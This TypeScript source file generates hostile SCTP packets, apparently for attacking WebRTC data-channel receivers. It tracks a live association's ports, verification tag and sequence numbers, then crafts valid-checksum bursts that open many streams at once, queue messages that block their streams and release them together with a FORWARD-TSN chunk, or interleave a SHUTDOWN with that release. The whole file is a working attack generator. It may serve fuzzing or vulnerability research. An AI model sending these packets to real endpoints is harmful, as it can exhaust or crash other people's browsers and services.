/** SCTP packets that no browser sends (RFC 9260 §3), of somebody who has an association. */

/** What the packets of one association have in common. */
export interface Association {
  /** Source and destination port, as in the header. */
  ports: number;
  verificationTag: number;
  /** Of the next DATA chunk. */
  nextTsn: number;
  /** The last of the other side. */
  heardTsn: number;
}

/** What is put into it and how it is arranged decides what a receiver does at once. */
export type HostileSctp =
  /** One packet that begins so many streams. */
  | { readonly kind: 'streams'; readonly count: number }
  /** Messages on so many streams that have to wait, and one chunk that releases them all. */
  | { readonly kind: 'release'; readonly count: number }
  /** The same, with the association shut down before the release: in that packet, or in one before. */
  | { readonly kind: 'shutdown'; readonly count: number; readonly apart: boolean };

const DATA = 0;
const SHUTDOWN = 7;
const FORWARD_TSN = 192;
const WHOLE = 3;
const UNORDERED = 4;
const FIRST_STREAM = 100;
/** DATA chunks that fit into one packet of the usual size. */
const PACKET_CHUNKS = 40;

/** Packets in the order in which they are to be sent; each array is one burst, a while after the last. */
export function hostileSctp(attack: HostileSctp, association: Association): Buffer[][] {
  const streams = Array.from({ length: attack.count }, (_, index) => FIRST_STREAM + index);
  if (attack.kind === 'streams') {
    const chunks = streams.map((stream) => data(association, stream, 0, WHOLE | UNORDERED));
    return [[packet(association, chunks)]];
  }
  const waiting: Buffer[] = [];
  for (let at = 0; at < streams.length; at += PACKET_CHUNKS) {
    // The second of each stream: the first never comes.
    const part = streams.slice(at, at + PACKET_CHUNKS);
    waiting.push(
      packet(
        association,
        part.map((stream) => data(association, stream, 1, WHOLE)),
      ),
    );
  }
  const release = forwardTsn(association, streams);
  if (attack.kind === 'release') return [waiting, [packet(association, [release])]];
  const shutdown = shutdownChunk(association);
  if (!attack.apart) return [waiting, [packet(association, [shutdown, release])]];
  return [waiting, [packet(association, [shutdown])], [packet(association, [release])]];
}

/** Learns from a packet that goes out, or comes in. */
export function observe(association: Association, bytes: Buffer, incoming: boolean): void {
  const [INIT, INIT_ACK] = [1, 2];
  const type = bytes.readUInt8(12);
  if (type === INIT || type === INIT_ACK) {
    const tsn = bytes.readUInt32BE(28);
    if (incoming) association.heardTsn = (tsn - 1) >>> 0;
    else association.nextTsn = tsn;
    return;
  }
  if (!incoming) {
    association.ports = bytes.readUInt32BE(0);
    association.verificationTag = bytes.readUInt32BE(4);
    return;
  }
  for (let at = 12; at + 8 <= bytes.length;) {
    const length = bytes.readUInt16BE(at + 2);
    if (bytes.readUInt8(at) === DATA) association.heardTsn = bytes.readUInt32BE(at + 4);
    at += Math.max(4, (length + 3) & ~3);
  }
}

function packet({ ports, verificationTag }: Association, chunks: readonly Buffer[]): Buffer {
  const bytes = Buffer.concat([Buffer.alloc(12), ...chunks]);
  bytes.writeUInt32BE(ports, 0);
  bytes.writeUInt32BE(verificationTag, 4);
  bytes.writeUInt32LE(crc32c(bytes), 8);
  return bytes;
}

/** RFC 9260 §3.3.1, with one byte of content. */
function data(association: Association, stream: number, ssn: number, flags: number): Buffer {
  const chunk = Buffer.alloc(20);
  chunk.writeUInt8(DATA, 0);
  chunk.writeUInt8(flags, 1);
  chunk.writeUInt16BE(17, 2);
  chunk.writeUInt32BE(association.nextTsn, 4);
  association.nextTsn = (association.nextTsn + 1) >>> 0;
  chunk.writeUInt16BE(stream, 8);
  chunk.writeUInt16BE(ssn, 10);
  // The protocol: a binary message (RFC 8831 §8).
  chunk.writeUInt32BE(53, 12);
  return chunk;
}

/** RFC 3758 §3.2: what these streams wait for will not come. */
function forwardTsn(association: Association, streams: readonly number[]): Buffer {
  const chunk = Buffer.alloc(8 + 4 * streams.length);
  chunk.writeUInt8(FORWARD_TSN, 0);
  chunk.writeUInt16BE(chunk.length, 2);
  chunk.writeUInt32BE(association.nextTsn, 4);
  association.nextTsn = (association.nextTsn + 1) >>> 0;
  for (const [index, stream] of streams.entries()) chunk.writeUInt16BE(stream, 8 + 4 * index);
  return chunk;
}

/** RFC 9260 §3.3.8. */
function shutdownChunk({ heardTsn }: Association): Buffer {
  const chunk = Buffer.alloc(8);
  chunk.writeUInt8(SHUTDOWN, 0);
  chunk.writeUInt16BE(chunk.length, 2);
  chunk.writeUInt32BE(heardTsn, 4);
  return chunk;
}

/** RFC 9260, appendix A: bit by bit, since it is a few packets. */
function crc32c(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = crc & 1 ? (crc >>> 1) ^ 0x82f63b78 : crc >>> 1;
  }
  return ~crc >>> 0;
}
